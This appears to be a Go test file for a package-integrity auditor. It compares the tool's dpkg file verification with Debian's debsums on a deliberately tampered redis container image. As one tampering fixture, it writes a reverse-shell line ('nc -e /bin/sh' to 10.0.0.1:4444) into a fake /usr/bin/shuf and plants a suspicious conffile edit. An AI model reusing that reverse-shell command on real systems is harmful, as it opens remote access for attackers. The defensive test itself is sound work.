package pkgdb

import (
	"bufio"
	"bytes"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/auditor-dev/auditor/internal/fleettest"
)

// needTool returns the path of an outside tool the test needs; without
// it the test is skipped, or fails under CI, which installs it.
func needTool(t *testing.T, name string) string {
	t.Helper()
	p, err := exec.LookPath(name)
	if err != nil {
		if os.Getenv("CI") != "" {
			t.Fatalf("%s is not installed: .ci/run installs it", name)
		}
		t.Skipf("%s not installed", name)
	}
	return p
}

// TestDebsumsOracle compares Verify with Debian's debsums over the same
// rootfs: the fleet's apps/redis:7.0 (Debian, four layers, a conffile the
// image changed), unpacked by umoci on the oracle side only, then tampered:
// a binary rewritten, one deleted, a conffile edited, a file replaced by a
// directory, two diversions (local and moved; by another package and not
// moved), and a dpkg path-exclude for the docs the image trimmed. Every
// md5 record of every installed package must get the verdict debsums gives.
func TestDebsumsOracle(t *testing.T) {
	t.Parallel() // mostly umoci's time
	umoci := needTool(t, "umoci")
	debsums := needTool(t, "debsums")
	layout := filepath.Join(fleettest.Dir(t), "images", "oci")
	if _, err := os.Stat(layout); err != nil {
		if os.Getenv("CI") != "" {
			t.Fatal(err)
		}
		t.Skipf("fleet layout (set FLEET_SHARED): %v", err)
	}
	bundle := filepath.Join(t.TempDir(), "bundle")
	args := []string{"unpack", "--image", layout + ":redis-7.0", bundle}
	if os.Geteuid() != 0 {
		args = append(args[:1], append([]string{"--rootless"}, args[1:]...)...)
	}
	if out, err := exec.Command(umoci, args...).CombinedOutput(); err != nil {
		t.Fatalf("umoci %v: %v\n%s", args, err, out)
	}
	root := filepath.Join(bundle, "rootfs")
	at := func(p string) string { return filepath.Join(root, filepath.FromSlash(p)) }
	must(t, os.WriteFile(at("/usr/bin/shuf"), []byte("#!/bin/sh\nexec nc -e /bin/sh 10.0.0.1 4444\n"), 0o755))
	must(t, os.Remove(at("/usr/bin/shred")))
	must(t, os.Remove(at("/usr/bin/tac")))
	must(t, os.Mkdir(at("/usr/bin/tac"), 0o755))
	conf, err := os.OpenFile(at("/etc/adduser.conf"), os.O_APPEND|os.O_WRONLY, 0)
	must(t, err)
	_, err = conf.WriteString("\nSKEL=/tmp/evil\n")
	must(t, err)
	must(t, conf.Close())
	// A local diversion with the file moved (dpkg-divert --local --rename),
	// and one by another package with the file left in place.
	must(t, os.Rename(at("/usr/bin/tail"), at("/usr/bin/tail.distrib")))
	must(t, os.WriteFile(at("/usr/bin/tail"), []byte("#!/bin/sh\nexec busybox tail \"$@\"\n"), 0o755))
	divs, err := os.OpenFile(at(DpkgDiversions), os.O_APPEND|os.O_WRONLY, 0)
	must(t, err)
	_, err = divs.WriteString("/usr/bin/tail\n/usr/bin/tail.distrib\n:\n/usr/bin/base64\n/usr/bin/base64.distrib\ndash\n")
	must(t, err)
	must(t, divs.Close())
	must(t, os.MkdirAll(at(DpkgConfigD), 0o755))
	must(t, os.WriteFile(at(DpkgConfigD+"/docker"), []byte("path-exclude /usr/share/doc/*\npath-include /usr/share/doc/*/copyright\n"), 0o644))

	// The oracle.
	cmd := exec.Command(debsums, "-a", "--root", root)
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	if err := cmd.Run(); err != nil {
		if _, ok := err.(*exec.ExitError); !ok { // debsums exits 2 when it found changes
			t.Fatal(err)
		}
	}
	oracle := map[string]Status{}
	okLine := regexp.MustCompile(`^(\S+)\s+(OK|FAILED)$`)
	sc := bufio.NewScanner(&stdout)
	for sc.Scan() {
		m := okLine.FindStringSubmatch(sc.Text())
		if m == nil {
			t.Fatalf("debsums stdout: %q", sc.Text())
		}
		st := OK
		if m[2] == "FAILED" {
			st = Modified
		}
		oracle[strings.TrimPrefix(m[1], root)] = st
	}
	missingLine := regexp.MustCompile(`^debsums: missing file (\S+) \(from \S+ package\)$`)
	notRegular := regexp.MustCompile(`^debsums: can't check \S+ file (\S+) \(not a regular file\)$`)
	sc = bufio.NewScanner(&stderr)
	for sc.Scan() {
		if m := missingLine.FindStringSubmatch(sc.Text()); m != nil {
			oracle[strings.TrimPrefix(m[1], root)] = Missing
		} else if m := notRegular.FindStringSubmatch(sc.Text()); m != nil {
			oracle[strings.TrimPrefix(m[1], root)] = Modified
		} else {
			t.Fatalf("debsums stderr: %q", sc.Text())
		}
	}

	// pkgdb over the same files.
	files := map[string][]byte{}
	for _, dir := range []string{"/var/lib/dpkg", "/etc/dpkg"} {
		must(t, filepath.WalkDir(at(dir), func(p string, d fs.DirEntry, err error) error {
			if err != nil || !d.Type().IsRegular() {
				return err
			}
			ip := "/" + filepath.ToSlash(strings.TrimPrefix(p, root+string(filepath.Separator)))
			if IsDpkgPath(ip) {
				b, err := os.ReadFile(p)
				files[ip] = b
				return err
			}
			return nil
		}))
	}
	db, err := ReadDpkg(files, DefaultLimits)
	must(t, err)
	ours := map[string]Status{}
	conffile := map[string]bool{}
	var diverted []string
	for _, p := range db.Packages {
		if !p.Installed {
			continue
		}
		for _, f := range p.Files {
			if f.Digest == "" {
				continue
			}
			o := observeDir(t, root, f.Path, true)
			o.Excluded = db.Filters.Excluded(f.Path, false)
			if to, ok := DivertedTo(db.Diversions, f.Path, p.Name); ok {
				// The path is not the package's to judge; debsums checks the
				// package's file where the diversion put it.
				o.Diverted = true
				if st := Verify(f, o); st != Diverted {
					t.Errorf("%s diverted to %s: %s", f.Path, to, st)
				}
				diverted = append(diverted, f.Path)
				f.Path = to
				o = observeDir(t, root, to, true)
				o.Excluded = db.Filters.Excluded(to, false)
			}
			ours[f.Path] = Verify(f, o)
			conffile[f.Path] = f.Flags&Conffile != 0
		}
	}

	counts := map[Status]int{}
	for p, st := range ours {
		counts[st]++
		want, judged := oracle[p]
		switch {
		case st == Excluded:
			if judged {
				t.Errorf("%s: excluded, debsums says %s", p, want)
			}
		case !judged:
			t.Errorf("%s: %s, debsums did not check it", p, st)
		case st == ConffileModified:
			if want != Modified || !conffile[p] {
				t.Errorf("%s: conffile-modified, debsums says %s", p, want)
			}
		case st != want:
			t.Errorf("%s: %s, debsums says %s", p, st, want)
		}
	}
	for p, want := range oracle {
		if _, ok := ours[p]; !ok {
			t.Errorf("%s: debsums says %s, pkgdb has no record", p, want)
		}
	}
	for p, want := range map[string]Status{
		"/usr/bin/shuf":               Modified,
		"/usr/bin/shred":              Missing,
		"/usr/bin/tac":                Modified,
		"/etc/adduser.conf":           ConffileModified,
		"/etc/redis/redis.conf":       ConffileModified, // the image's own change
		"/bin/ls":                     OK,
		"/usr/bin/tail.distrib":       OK,      // coreutils' tail, moved by the local diversion
		"/usr/bin/base64.distrib":     Missing, // diverted by dash, never moved
		"/usr/share/doc/adduser/TODO": Excluded,
	} {
		if ours[p] != want {
			t.Errorf("%s: %s, want %s", p, ours[p], want)
		}
	}
	if len(diverted) != 2 {
		t.Errorf("diverted records %v, want /usr/bin/tail and /usr/bin/base64", diverted)
	}
	if counts[OK] < 2500 || counts[Missing] == 0 || counts[Excluded] < 100 {
		t.Errorf("verdicts %v", counts)
	}
}

// observeDir is what an unpacked rootfs holds at p, resolved inside root
// (parents always, the final symlink when final is set: debsums follows it,
// rpm -V and apk audit do not).
func observeDir(t *testing.T, root, p string, final bool) Observed {
	t.Helper()
	lookup := func(q string) entry {
		full := filepath.Join(root, filepath.FromSlash(q))
		fi, err := os.Lstat(full)
		switch {
		case err != nil:
			return entry{}
		case fi.Mode()&fs.ModeSymlink != 0:
			target, err := os.Readlink(full)
			if err != nil {
				t.Fatal(err)
			}
			return entry{kind: Link, linkTarget: target}
		case fi.IsDir():
			return entry{kind: Directory}
		case fi.Mode().IsRegular():
			return entry{kind: Regular}
		}
		return entry{kind: Other}
	}
	r := resolve(p, final, lookup)
	e := lookup(r)
	if e.kind == Regular {
		b, err := os.ReadFile(filepath.Join(root, filepath.FromSlash(r)))
		if err != nil {
			t.Fatal(err)
		}
		e = contentEntry(b)
	}
	return Observed{Kind: e.kind, LinkTarget: e.linkTarget, MD5: e.md5, SHA1: e.sha1, SHA256: e.sha256}
}

// must fails the test on an error.
func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}
